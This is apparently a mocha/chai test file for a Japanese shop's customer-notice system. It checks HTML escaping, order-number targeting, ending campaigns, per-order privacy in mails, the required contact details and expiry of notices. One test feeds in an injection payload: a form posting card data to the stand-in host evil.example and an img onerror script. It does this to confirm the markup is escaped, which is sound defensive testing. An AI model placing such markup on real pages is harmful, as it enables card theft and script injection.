import { expect } from 'chai';
import { makeShop, signedIn, type TestShop } from '../../fixtures/builders.ts';
import { startServer, type TestServer } from '../../helpers/app.ts';
import { TestClient } from '../../helpers/client.ts';
import { oneDbKind } from '../../helpers/env.ts';
import { noticeSamples } from '../../../server/domains/notices/notices.types.ts';
import { campaignBody, campaignMails, campaignPath, createAndPublish, seedOrders, uniq, untilStatus } from './notices.helpers.ts';

/** What a notice must never do: leak one customer's order to another or to the public page, run shop markup, reach every order, stay up for good, or promise what has passed. */
for (const kind of oneDbKind()) {
  describe(`[${kind}] notices: what a published notice may and may not say, and to whom`, function () {
    this.timeout(60_000);
    let server: TestServer;
    let shop: TestShop;
    let owner: TestClient;
    let staff: TestClient;
    const tag = uniq();
    const activeIds = async () => ((await new TestClient(server.url).get(`/shops/${shop.id}/notices/active`)).body.notices as { id: string }[]).map((n) => n.id);

    before(async () => {
      server = await startServer(kind, { notices: { sweepMs: 1000, lockMs: 4000 } });
      shop = await makeShop(server.database);
      owner = await signedIn(server.url, shop.people.owner);
      staff = await signedIn(server.url, shop.people.staff);
      await seedOrders(server.database, shop.id, [
        { orderNumber: `R${tag}-1`, email: `a-${tag}@example.jp`, prefecture: '北海道', postcode: '060-0001' },
        { orderNumber: `R${tag}-2`, email: `b-${tag}@example.jp`, prefecture: '沖縄県', postcode: '900-0001' },
        { orderNumber: `R${tag}-3`, email: `c-${tag}@example.jp`, prefecture: '大阪府', postcode: '530-0001' },
      ]);
    });
    after(() => server?.close());

    it('escapes markup a shop writes into its wording, on the public page and in the banner JSON', async () => {
      const t = await staff.post(`/api/shops/${shop.id}/notice-templates`, { type: 'seasonal', name: `markup ${tag}` });
      expect(t.status, t.text).to.equal(201);
      const wording = t.body.wording;
      wording.body.ja = `${wording.body.ja}\n<注意> <form action="https://evil.example/collect"><input name=card></form><img src=x onerror=alert(1)>`;
      const v = await staff.post(`/api/shops/${shop.id}/notice-templates/${t.body.id}/versions`, { wording, baseVersion: 1 });
      expect(v.status, v.text).to.equal(201);
      const c = await createAndPublish(owner, shop.id, campaignBody({}, { templateVersionId: v.body.id, channels: { banner: true, mail: false, chat: false } }));
      const page = await new TestClient(server.url).get(`/shops/${shop.id}/notices`);
      expect(page.status).to.equal(200);
      expect(page.text).not.to.match(/<form action="https:\/\/evil|<img src=x onerror/);
      expect(page.text).to.include('&lt;注意&gt;');
      const active = await new TestClient(server.url).get(`/shops/${shop.id}/notices/active`);
      const n = active.body.notices.find((x: { id: string }) => x.id === c.id);
      expect(n.ja.html).not.to.include('<img src=x').and.not.to.include('<form');
      expect(n.ja.html).to.include('&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;');
    });

    it('reads postcode prefixes typed with full-width digits, 〒 or a hyphen as orders store them', async () => {
      for (const p of ['０６０', '060-', '〒060']) {
        const r = await owner.post(`/api/shops/${shop.id}/notice-audience`, { target: { postcodePrefixes: [p] } });
        expect(r.status, `${p}: ${r.text}`).to.equal(200);
        expect(r.body.orders, p).to.equal(1);
      }
    });

    it('takes a pasted list of blank lines for no condition: a mail campaign to it is refused, never sent to every order', async () => {
      const made = await owner.post(campaignPath(shop.id), campaignBody({ orderNumbers: ['  ', '', '　'] }));
      expect(made.status, made.text).to.equal(201);
      expect(made.body.target.orderNumbers).to.deep.equal([]);
      const pub = await owner.post(`${campaignPath(shop.id, made.body.id)}/publish`, { version: made.body.version });
      expect(pub.status, pub.text).to.equal(400);
      expect(pub.body.error.details.map((d: { path: string }) => d.path)).to.include('target');
      const one = await owner.post(`/api/shops/${shop.id}/notice-audience`, { target: { orderNumbers: ['', ` Ｒ${tag}－2 `] } });
      expect(one.status, one.text).to.equal(200);
      expect(one.body.orders).to.equal(1);
    });

    it('ends a published banner now, a banner-only (sent) one included: it leaves the banner JSON at once', async () => {
      const c = await createAndPublish(owner, shop.id, campaignBody({}, { endsAt: null, channels: { banner: true, mail: false, chat: false } }));
      expect(c.status).to.equal('sent');
      expect(await activeIds()).to.include(c.id);
      const stale = await owner.post(`${campaignPath(shop.id, c.id)}/end`, { version: c.version - 1 });
      expect(stale.status).to.equal(409);
      const ended = await owner.post(`${campaignPath(shop.id, c.id)}/end`, { version: c.version });
      expect(ended.status, ended.text).to.equal(200);
      expect(ended.body.status).to.equal('sent');
      expect(Date.parse(ended.body.endsAt)).to.be.at.most(Date.now());
      expect(await activeIds()).not.to.include(c.id);
      const again = await owner.post(`${campaignPath(shop.id, c.id)}/end`, { version: ended.body.version });
      expect(again.status, 'already ended').to.equal(409);
      const draft = await owner.post(campaignPath(shop.id), campaignBody({}, { channels: { banner: true, mail: false, chat: false } }));
      expect((await owner.post(`${campaignPath(shop.id, draft.body.id)}/end`, { version: draft.body.version })).status, 'a draft is not ended').to.equal(409);
    });

    it('ends a notice still sending: cancelled, its unsent recipients never mailed, its banner gone', async () => {
      await server.database.db.execute((await import('drizzle-orm')).sql`update shops set notice_mails_per_minute = 1 where id = ${shop.id}`);
      try {
        const c = await createAndPublish(owner, shop.id, campaignBody({ orderNumbers: [`R${tag}-1`, `R${tag}-2`, `R${tag}-3`] }, { channels: { banner: true, mail: true, chat: false } }));
        const now = await owner.get(campaignPath(shop.id, c.id));
        const ended = await owner.post(`${campaignPath(shop.id, c.id)}/end`, { version: now.body.version });
        expect(ended.status, ended.text).to.equal(200);
        expect(ended.body.status).to.equal('cancelled');
        expect(await activeIds()).not.to.include(c.id);
      } finally {
        await server.database.db.execute((await import('drizzle-orm')).sql`update shops set notice_mails_per_minute = 0 where id = ${shop.id}`);
      }
    });

    it('never puts a per-order notice on the public page: no banner by default, a banner refused at channels.banner', async () => {
      const vars = { ...noticeSamples.shipment_exception, last_scan_at: new Date(Date.now() - 86_400_000).toISOString(), old_expected_date: '2026-12-04', next_update_at: new Date(Date.now() + 86_400_000).toISOString() };
      const made = await owner.post(campaignPath(shop.id), { name: `exc ${tag}`, type: 'shipment_exception', variables: vars, startsAt: new Date(Date.now() - 1000).toISOString(), target: { orderNumbers: [`R${tag}-1`] } });
      expect(made.status, made.text).to.equal(201);
      expect(made.body.channels).to.deep.equal({ banner: false, mail: true, chat: true });
      for (const type of ['shop_delay', 'shipment_exception', 'returned_to_sender']) {
        const r = await owner.post(campaignPath(shop.id), campaignBody({ orderNumbers: [`R${tag}-1`] }, { type, variables: {}, channels: { banner: true, mail: true, chat: false } }));
        expect(r.status, type).to.equal(400);
        expect(r.body.error.details.map((d: { path: string }) => d.path), type).to.include('channels.banner');
      }
      const banner = await owner.patch(campaignPath(shop.id, made.body.id), { version: made.body.version, channels: { banner: true, mail: true, chat: false } });
      expect(banner.status).to.equal(400);
      const pub = await owner.post(`${campaignPath(shop.id, made.body.id)}/publish`, { version: made.body.version });
      expect(pub.status, pub.text).to.equal(200);
      expect(await activeIds()).not.to.include(made.body.id);
      const page = await new TestClient(server.url).get(`/shops/${shop.id}/notices`);
      expect(page.text).not.to.include(`R${tag}-1`);
    });
    it('mails each customer of a per-order notice their own order number, carrier and tracking number, never another customer\'s', async () => {
      await seedOrders(server.database, shop.id, [
        { orderNumber: `S${tag}-1`, email: `s1-${tag}@example.jp`, prefecture: '沖縄県', carrier: '日本郵便' },
        { orderNumber: `S${tag}-2`, email: `s2-${tag}@example.jp`, prefecture: '沖縄県', carrier: '佐川急便' },
        { orderNumber: `S${tag}-3`, email: `s3-${tag}@example.jp`, prefecture: '沖縄県' },
      ]);
      const { sql } = await import('drizzle-orm');
      for (const n of [1, 2, 3]) await server.database.db.execute(sql`update orders set tracking_number = ${`TRK-${tag}-${n}`} where shop_id = ${shop.id} and order_number = ${`S${tag}-${n}`}`);
      const numbers = [1, 2, 3].map((n) => `S${tag}-${n}`);
      // The variables have no order number to give: one for all would be one customer's.
      const withOrderNo = await owner.post(campaignPath(shop.id), campaignBody({ orderNumbers: numbers }, { type: 'returned_to_sender', variables: { ...noticeSamples.returned_to_sender, order_no: `S${tag}-1` } }));
      expect(withOrderNo.status).to.equal(400);
      expect(withOrderNo.body.error.details.map((d: { path: string }) => d.path)).to.include('variables.order_no');
      const c = await createAndPublish(owner, shop.id, campaignBody({ orderNumbers: numbers }, { type: 'returned_to_sender', variables: noticeSamples.returned_to_sender }));
      await untilStatus(server.database, c.id, 'sent', 30_000);
      const mails = campaignMails(server.smtp.mails, c.id);
      expect(mails).to.have.length(3);
      for (const n of [1, 2, 3]) {
        const mail = mails.find((m) => m.to[0] === `s${n}-${tag}@example.jp`)!;
        const all = `${mail.raw.subject}\n${mail.raw.text}`;
        expect(all).to.include(`S${tag}-${n}`).and.include(`TRK-${tag}-${n}`);
        for (const other of [1, 2, 3].filter((o) => o !== n)) expect(all, `mail ${n} names order ${other}`).not.to.include(`S${tag}-${other}`).and.not.to.include(`TRK-${tag}-${other}`);
      }
      const sagawa = mails.find((m) => m.to[0] === `s2-${tag}@example.jp`)!;
      expect(sagawa.raw.text).to.include('配送業者：佐川急便／お問い合わせ伝票番号：').and.include('carrier: Sagawa Express, tracking number:');
    });
    it('prints the shop\'s own notice contact in every notice, and refuses to publish without one, saying where to set it', async () => {
      const bare = await makeShop(server.database);
      const bareOwner = await signedIn(server.url, bare.people.owner);
      await server.database.db.execute((await import('drizzle-orm')).sql`update shops set notice_contact = null where id = ${bare.id}`);
      const made = await bareOwner.post(campaignPath(bare.id), campaignBody({}, { channels: { banner: true, mail: false, chat: false } }));
      const refused = await bareOwner.post(`${campaignPath(bare.id, made.body.id)}/publish`, { version: made.body.version });
      expect(refused.status).to.equal(400);
      const d = refused.body.error.details.find((x: { path: string }) => x.path === 'shop.noticeContact');
      expect(d.ja).to.include('ショップ情報').and.include('お知らせのお問い合わせ先');
      expect(d.message).to.include('Settings');
      for (const bad of ['電話してください', 'a\nb\nc\nd\ne 03-1234-5678', `${'x'.repeat(300)} a@b.jp`]) {
        const r = await bareOwner.patch(`/api/shops/${bare.id}`, { noticeContact: bad });
        expect(r.status, bad).to.equal(400);
        expect(r.body.error.details[0].path).to.equal('noticeContact');
        expect(r.body.error.details[0].ja).to.include('お問い合わせ先');
      }
      const set = await bareOwner.patch(`/api/shops/${bare.id}`, { noticeContact: ' help@bare.example.jp\r\n０３－１１１１－２２２２（平日10〜17時） ' });
      expect(set.status, set.text).to.equal(200);
      expect(set.body.noticeContact).to.equal('help@bare.example.jp\n０３－１１１１－２２２２（平日10〜17時）');
      const pub = await bareOwner.post(`${campaignPath(bare.id, made.body.id)}/publish`, { version: made.body.version });
      expect(pub.status, pub.text).to.equal(200);
      const n = (await new TestClient(server.url).get(`/shops/${bare.id}/notices/active`)).body.notices.find((x: { id: string }) => x.id === made.body.id);
      expect(n.ja.html).to.include('help@bare.example.jp').and.not.to.include('ショップのお問い合わせ窓口');
      expect(n.en.html).to.include('help@bare.example.jp').and.not.to.include("the shop's contact page");
      const preview = await bareOwner.post(`/api/shops/${bare.id}/notice-preview`, { type: 'seasonal', variables: noticeSamples.seasonal });
      expect(preview.body.ja.text).to.include('help@bare.example.jp');
    });
    it('checks a scheduled notice again at its start: a next update already past sends nothing and returns it to draft with the reason', async () => {
      await seedOrders(server.database, shop.id, [{ orderNumber: `W${tag}-1`, email: `w1-${tag}@example.jp` }]);
      const nextUpdate = new Date(Date.now() + 2500);
      const startsAt = new Date(Math.ceil((Date.now() + 4500) / 1000) * 1000);
      const vars = { ...noticeSamples.weather, as_of: new Date(Date.now() - 3_600_000).toISOString(), next_update_at: nextUpdate.toISOString() };
      const made = await owner.post(campaignPath(shop.id), campaignBody({ orderNumbers: [`W${tag}-1`] }, { type: 'weather', variables: vars, startsAt: startsAt.toISOString(), channels: { banner: true, mail: true, chat: false } }));
      expect(made.status, made.text).to.equal(201);
      const pub = await owner.post(`${campaignPath(shop.id, made.body.id)}/publish`, { version: made.body.version });
      expect(pub.body.status, pub.text).to.equal('scheduled');
      await untilStatus(server.database, made.body.id, 'draft', 20_000);
      const back = await owner.get(campaignPath(shop.id, made.body.id));
      expect(back.body.publishedAt).to.equal(null);
      expect(back.body.startFailure.details.map((d: { path: string }) => d.path)).to.include('variables.next_update_at');
      expect(back.body.startFailure.details[0].ja).to.match(/[ぁ-ん]/);
      expect(campaignMails(server.smtp.mails, made.body.id)).to.have.length(0);
      expect(await activeIds()).not.to.include(made.body.id);
      // Fixed and published again, it goes out, and the failure is gone.
      const fixed = await owner.patch(campaignPath(shop.id, made.body.id), { version: back.body.version, startsAt: new Date(Date.now() - 1000).toISOString(), variables: { ...vars, next_update_at: new Date(Date.now() + 86_400_000).toISOString() } });
      expect(fixed.status, fixed.text).to.equal(200);
      const again = await owner.post(`${campaignPath(shop.id, made.body.id)}/publish`, { version: fixed.body.version });
      expect(again.status, again.text).to.equal(200);
      expect(again.body.startFailure).to.equal(null);
      await untilStatus(server.database, made.body.id, 'sent', 30_000);
    });

    it('takes a banner down once the next update it promised has passed', async () => {
      // A banner whose next update has passed leaves the banner JSON (and goes to the page's past notices).
      const soon = new Date(Date.now() + 1500);
      const live = await createAndPublish(owner, shop.id, campaignBody({}, { type: 'weather', variables: { ...noticeSamples.weather, as_of: new Date(Date.now() - 3_600_000).toISOString(), next_update_at: soon.toISOString() }, channels: { banner: true, mail: false, chat: false } }));
      expect(await activeIds()).to.include(live.id);
      await new Promise((r) => setTimeout(r, 1500 + 10_500));
      expect(await activeIds()).not.to.include(live.id);
    }).timeout(40_000);
  });
}
